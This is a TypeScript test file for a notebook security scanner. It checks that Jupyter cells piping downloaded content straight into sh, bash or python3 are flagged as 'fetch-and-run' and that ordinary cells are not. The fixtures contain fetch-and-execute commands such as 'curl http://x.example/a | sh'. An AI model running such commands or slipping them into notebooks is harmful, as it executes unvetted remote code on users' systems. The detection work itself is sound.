import { expect, test } from 'vitest';
import { inspectBytes } from '../../rules/conformance/inspect.ts';
import { instantiate } from '../../wasm/engine.ts';
import { loadModule } from '../../wasm/load.node.ts';

const engine = instantiate(loadModule());
async function told(...cells: readonly (string | readonly string[])[]): Promise<unknown[]> {
  const text = JSON.stringify({
    nbformat: 4,
    metadata: {},
    cells: cells.map((source) => ({ cell_type: 'code', source, outputs: [] })),
  });
  const { findings } = await inspectBytes(new TextEncoder().encode(text), 'train.ipynb', engine);
  return findings.map(({ severity, rule, place }) => [
    `${severity} ${rule}`,
    text.slice(place.offset, place.offset + place.length),
  ]);
}

test('lines for a shell that run what they fetch are told where they stand', async () => {
  expect(await told(['import os\n', '!curl http://x.example/a | sh\n'])).toEqual([
    ['medium text.fetch-and-run', '"!curl http://x.example/a | sh\\n"'],
  ]);
  expect(await told(['%%bash\n', 'curl http://x.example/a | bash'])).toEqual([
    ['medium text.fetch-and-run', '"curl http://x.example/a | bash"'],
  ]);
  expect(await told('x = 1\n!wget -qO- http://x.example/a | python3')).toHaveLength(1);
});

test('ordinary notebooks say nothing', async () => {
  expect(
    await told(
      ['!pip install torch\n', '!nvidia-smi | head\n', '%matplotlib inline\n'],
      "import os\nos.system('ls')\nprint('curl x | sh')",
      '!wget http://x.example/data.zip && unzip data.zip',
    ),
  ).toEqual([]);
});
